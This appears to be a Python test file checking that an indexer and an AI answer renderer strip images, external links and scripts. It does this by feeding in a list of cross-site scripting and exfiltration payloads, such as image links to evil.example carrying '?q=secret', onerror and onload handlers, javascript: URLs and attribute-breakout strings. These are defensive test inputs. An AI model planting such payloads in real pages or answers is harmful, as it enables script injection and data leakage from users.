"""What a model or a document may write, and what becomes of it: no image, no link, no script, nothing but text."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from indexer.rendering import render, visible_text
from inference.models import Turn
from inference.rendering import answer_html

ELEMENTS = {"p", "ul", "ol", "li", "pre", "blockquote", "hr", "div", "table", "tr", "th", "td", "mark", "code"}
ELEMENTS |= {"h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "a", "span"}
ATTRIBUTES = {"class", "tabindex", "value", "title"}  # of ours that can do nothing
MARKER = {"class", "href", "hx-get", "hx-target", "title", "aria-label"}
ATTACKS = [
    "![x](https://evil.example/?q=secret)",
    "[x](https://evil.example/)",
    "[1](https://evil.example/)",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[x][1]\n\n[1]: https://evil.example/",
    "<https://evil.example/>",
    "https://evil.example/?q=1 and www.evil.example",
    "<img src=https://evil.example/a.png onerror=alert(1)>",
    "<IMG SRC='https://evil.example/a.png'>",
    "<img/src=x/onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<script>alert(1)</script>",
    "<scr<b>ipt>alert(1)</scr</b>ipt>",
    "<a href='javascript:alert(1)'>x</a>",
    "<b onclick=alert(1)>x</b>",
    "<div hx-get='/conversations/' hx-trigger='load'>x</div>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<form action=https://evil.example><input name=q></form>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "\"><img src=x onerror=alert(1)>",
    "'\" onmouseover=alert(1) x=\"",
    "</p></div><script>alert(1)</script>",
    "```html\n<img src=https://evil.example>\n```",
    "`<img src=https://evil.example>`",
    "| <img src=x> | ![y](https://evil.example) |\n|---|---|\n| [z](https://evil.example) | `<b>` |",
    "# ![h](https://evil.example)",
    "> [q](https://evil.example)",
    "- <img src=https://evil.example>\n1. [x](//evil.example)",
    "**[x](https://evil.example)** *![x](https://evil.example)*",
]  # fmt: skip
attacks = st.lists(st.sampled_from(ATTACKS) | st.text(max_size=6), max_size=6).map(" ".join)


class Elements(HTMLParser):
    """Every element of a page with its attributes, as a browser reads them."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))

    def handle_comment(self, data):
        self.found.append(("comment", {}))

    handle_decl = unknown_decl = handle_pi = handle_comment


def turn_saying(text: str, document: str = "harbour.md") -> Turn:
    """An answer with one citation, [1], of a document called ``document``."""
    place = {"number": 1, "chunk_id": 1, "document_id": 7, "document": document, "page": None, "start": 0, "end": 4}
    sentence = {"start": 0, "end": len(text), "support": "unsupported", "citations": [1], "places": [0]}
    return Turn(text=text, citations=[place | {"quote": "text"}], sentences=[sentence], finish_reason="stop")


def check(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in ELEMENTS, tag
        if tag == "a":
            assert set(attributes) == MARKER
            assert re.fullmatch(r"/documents/7/\?start=\d+&end=\d+", attributes["href"])
        else:
            assert set(attributes) <= ATTRIBUTES, attributes


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("markup", ["markdown", "plain"])
def test_a_document_shows_no_image_link_or_script_of_its_own(text, markup):
    check(render(text, markup))


@pytest.mark.parametrize("text", ATTACKS)
def test_an_answer_links_to_its_sources_only(text):
    check(answer_html(turn_saying(f"{text} It is tall. [1]"), {7}))


@given(attacks)
def test_no_mixture_of_attacks_becomes_an_element(text):
    check(answer_html(turn_saying(text), {7}))
    check(render(text, "plain"))


@given(st.sampled_from(ATTACKS))
def test_nothing_in_the_name_of_a_document_leaves_its_attribute(name):
    for documents in ({7}, set()):
        check(answer_html(turn_saying("It is tall. [1]", document=name), documents))


def test_what_an_image_or_link_says_is_still_read():
    assert visible_text("See ![the map](https://evil.example/?q=1) and [this](javascript:x).", "markdown") == (
        "See the map and this."
    )
